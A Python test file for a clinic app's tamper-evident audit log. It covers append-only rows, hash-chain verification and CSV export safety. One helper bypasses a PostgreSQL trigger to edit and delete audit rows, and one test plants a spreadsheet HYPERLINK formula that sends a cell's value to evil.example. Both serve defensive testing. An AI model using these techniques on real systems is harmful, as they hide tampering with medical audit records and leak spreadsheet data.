"""The audit trail: written for views and changes, append-only, tamper-evident, reportable."""

import csv
import io
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection, transaction
from django.urls import reverse

from rehab_clinic.audit.models import AppendOnlyError, AuditEvent
from rehab_clinic.audit.services import record_event, verify_chain

pytestmark = pytest.mark.django_db


def test_viewing_a_chart_writes_an_audit_row_with_who_what_and_where(
    client: Any, therapist: Any, patient: Any
) -> None:
    client.force_login(therapist)
    client.get(reverse("patients:chart", args=[patient.pk]), REMOTE_ADDR="192.0.2.7")
    event = AuditEvent.objects.filter(action="view").latest("id")
    assert event.user == therapist
    assert event.patient == patient
    assert event.clinic == patient.clinic
    assert event.ip_address == "192.0.2.7"
    assert event.object_type == "patients.Patient"
    assert event.outcome == "success"


def test_creating_and_changing_records_are_audited(
    client: Any, therapist: Any, patient: Any
) -> None:
    client.force_login(therapist)
    client.post(
        reverse("patients:episode_create", args=[patient.pk]),
        {"label": "Plantar heel pain, left", "icd10_code": "M72.2", "side": "left"},
    )
    episode = patient.episodes.get()
    client.post(
        reverse("patients:episode_edit", args=[episode.pk]),
        {
            "label": "Plantar heel pain, left",
            "icd10_code": "M72.2",
            "side": "left",
            "referral_source": "GP",
        },
    )
    actions = list(
        AuditEvent.objects.filter(patient=patient).order_by("id").values_list("action", "detail")
    )
    assert ("create", "") in actions
    assert ("change", "referral_source") in actions


def test_audit_rows_cannot_be_changed_or_deleted_through_the_app(therapist: Any) -> None:
    event = record_event(user=therapist, action="login")
    event.detail = "rewritten"
    with pytest.raises(AppendOnlyError):
        event.save()
    with pytest.raises(AppendOnlyError):
        event.delete()
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.filter(pk=event.pk).update(detail="x")
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.all().delete()


def test_postgresql_itself_refuses_to_update_audit_rows(therapist: Any) -> None:
    if connection.vendor != "postgresql":
        return  # the embedded SQLite default relies on the app-level guard tested above
    event = record_event(user=therapist, action="login")
    with (
        pytest.raises(Exception, match="append-only"),
        transaction.atomic(),
        connection.cursor() as cursor,
    ):
        cursor.execute("UPDATE audit_auditevent SET detail = 'x' WHERE id = %s", [event.pk])


def _tamper(event_id: int, detail: str) -> None:
    """Edit a row behind the app's back, as an attacker with database access might."""
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute("SET session_replication_role = replica")  # bypasses the trigger
        cursor.execute("UPDATE audit_auditevent SET detail = %s WHERE id = %s", [detail, event_id])
        if connection.vendor == "postgresql":
            cursor.execute("SET session_replication_role = DEFAULT")


def test_verify_audit_detects_an_edited_row(therapist: Any, patient: Any, capsys: Any) -> None:
    events = [
        record_event(user=therapist, action="view", patient=patient, obj=patient) for _ in range(4)
    ]
    call_command("verify_audit")
    assert "Audit chain intact: 4 events." in capsys.readouterr().out
    _tamper(events[2].pk, "nothing to see here")
    report = verify_chain(events[2].chain)
    assert not report.intact
    assert report.first_bad_id == events[2].pk
    with pytest.raises(CommandError, match=f"broken at event {events[2].pk}"):
        call_command("verify_audit")


def test_verify_audit_detects_a_deleted_row(therapist: Any) -> None:
    events = [record_event(user=therapist, action="login") for _ in range(3)]
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute("SET session_replication_role = replica")
        cursor.execute("DELETE FROM audit_auditevent WHERE id = %s", [events[1].pk])
        if connection.vendor == "postgresql":
            cursor.execute("SET session_replication_role = DEFAULT")
    assert verify_chain(events[2].chain).first_bad_id == events[2].pk


def test_admins_filter_their_clinics_report_and_export_it(
    client: Any, clinic_admin: Any, therapist: Any, patient: Any, other_therapist: Any
) -> None:
    record_event(user=therapist, action="view", patient=patient, obj=patient)
    record_event(user=other_therapist, action="login")
    client.force_login(clinic_admin)
    page = client.get(
        reverse("audit:report"), {"user": therapist.pk, "action": "view"}
    ).content.decode()
    assert patient.full_name in page
    assert other_therapist.email not in page
    export = client.get(reverse("audit:export_csv"), {"patient": patient.pk})
    assert export["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert rows[0][:3] == ["time_utc", "user", "action"]
    assert all(row[4] == patient.full_name for row in rows[1:])
    assert len(rows) >= 2


def test_report_rejects_an_end_date_before_the_start(client: Any, clinic_admin: Any) -> None:
    client.force_login(clinic_admin)
    html = client.get(
        reverse("audit:report"), {"start": "2026-05-02", "end": "2026-05-01"}
    ).content.decode()
    assert "The end date must be on or after the start date." in html
    assert 'value="2026-05-02"' in html
    # The filters are plain includes now, marked up as crispy's Bootstrap 5 fields were: the
    # field in error is invalid and described by its message, the others by their help.
    assert (
        'class="dateinput form-control is-invalid" aria-invalid="true" '
        'aria-describedby="id_end_error" id="id_end"' in html
    )
    assert '<div id="id_end_error" class="invalid-feedback"><p id="error_1_id_end">' in html
    assert 'aria-describedby="id_user_q_helptext"' in html
    assert '<div id="id_user_q_helptext" class="form-text">Name or email</div>' in html
    assert '<label for="id_action" class="form-label">Action</label>' in html
    assert 'class="select form-select" id="id_action"' in html


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_safe_neutralises_every_formula_start(start: str) -> None:
    from rehab_clinic.audit.exports import spreadsheet_safe

    assert spreadsheet_safe(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    assert spreadsheet_safe(f"Ann {start}1") == f"Ann {start}1"
    assert spreadsheet_safe(None) == ""


def test_the_audit_export_cannot_carry_a_formula_to_the_admins_spreadsheet(
    client: Any, clinic_admin: Any, therapist: Any, patient: Any
) -> None:
    patient.first_name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    patient.last_name = "@SUM(1+1)"
    patient.save()
    record_event(user=therapist, action="view", patient=patient, obj=patient, detail="-2+3")
    client.force_login(clinic_admin)
    export = client.get(reverse("audit:export_csv"), {"patient": patient.pk})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert "'-2+3" in cells
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
